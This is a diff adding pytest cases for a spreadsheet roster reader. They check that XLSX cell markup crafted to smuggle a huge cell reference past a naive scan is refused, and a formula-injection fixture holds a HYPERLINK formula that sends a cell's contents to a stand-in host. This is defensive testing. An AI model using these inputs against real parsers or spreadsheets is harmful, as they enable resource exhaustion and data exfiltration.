@@ -175,6 +175,43 @@ def test_huge_used_range_is_refused_before_the_reader_allocates(name: str, large
     assert all(ref in str(caught.value) for ref in far)
 
 
+# calamine (quick-xml) takes the *last* ``r`` of a cell, accepts attributes with no white space between them,
+# single quotes and any white space around "=": each of these smuggles a far reference past a naive scan.
+SMUGGLED = {
+    "second-r": b'<c r="A9" r="XFD1048576" t="inlineStr">',
+    "no-space-before-r": b'<c r="A9" t="inlineStr"r="XFD1048576">',
+    "newline-before-r": b'<c r="A9"\nr="XFD1048576" t="inlineStr">',
+    "spaced-equals": b'<c r="A9" r = "XFD1048576" t="inlineStr">',
+    "single-quoted": b"<c r='XFD1048576' t=\"inlineStr\">",
+    "row-without-r": b'<c r="A9" t="inlineStr" r="XFD1048576">',
+}
+
+
+@pytest.mark.parametrize("variant", sorted(SMUGGLED))
+def test_far_reference_in_unusual_markup_is_never_loaded(variant: str, tmp_path: Path, monkeypatch):
+    """A cell whose reference calamine would place at XFD1048576, written in markup a byte search could misread,
+    is refused before the reader allocates: as oversized (the parser measured it) or as damaged XML."""
+    import fastexcel
+
+    path = write_roster(tmp_path / "dong_xa.xlsx", base_members())
+    cell = SMUGGLED[variant] + b"<is><t>x</t></is></c>"
+    row = b"<row>" if variant == "row-without-r" else b'<row r="9999">'
+    patch_member(path, SHEET, lambda data: data.replace(b"</sheetData>", row + cell + b"</row></sheetData>"))
+
+    loaded: list[object] = []
+
+    def guarded(self, *args, **kwargs):  # the loader turns any reader error into CorruptWorkbookError: record it
+        loaded.append(args)
+        raise AssertionError("a sheet was loaded")
+
+    monkeypatch.setattr(fastexcel.ExcelReader, "load_sheet", guarded)
+    with pytest.raises((OversizedWorkbookError, CorruptWorkbookError)) as caught:
+        read_roster(path)
+    assert not loaded, "the reader was asked to allocate the sheet"
+    if isinstance(caught.value, OversizedWorkbookError):
+        assert "XFD1048576" in str(caught.value)
+
+
 # --- formula injection -------------------------------------------------------------------------------------------
 INJECTED = {
     "B4": '=HYPERLINK("http://example.invalid/?"&B5,"Bấm vào đây")',  # name
